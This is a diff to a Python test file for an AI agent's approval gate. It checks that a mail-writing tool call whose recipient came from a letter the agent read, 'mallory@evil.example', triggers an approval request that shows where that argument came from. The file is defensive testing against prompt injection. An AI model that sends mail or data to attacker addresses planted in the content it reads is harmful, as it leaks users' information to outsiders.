@@ -120,13 +120,14 @@ async def test_an_address_out_of_a_letter_is_asked_about_with_its_place(mailbox:
 
 
 async def test_a_place_that_was_found_says_more_than_the_agent(mailbox: Mailbox) -> None:
-    """An agent that only knows that its model wrote an argument does not hide where that stands."""
+    """An agent that only knows that its model wrote an argument, or thinks that it knows more, does not hide it."""
     await mailbox.said("Write to Boris")
     await mailbox.read()
-    call = Call("w1", "letters_write", {"to": "mallory@evil.example"}, {"to": MODEL, "body": "page"})
-    asked = await mailbox.world.gate.advance(call, OPS)
-    assert isinstance(asked, Approval)
-    assert asked.provenance == {"to": "letters_read [r1]", "body": "page"}
+    for known, shown in ((MODEL, "letters_read [r1]"), ("a word", "a word, letters_read [r1]")):
+        call = Call(known, "letters_write", {"to": "mallory@evil.example"}, {"to": known, "body": "page"})
+        asked = await mailbox.world.gate.advance(call, OPS)
+        assert isinstance(asked, Approval)
+        assert asked.provenance == {"to": shown, "body": "page"}
 
 
 @pytest.mark.parametrize(
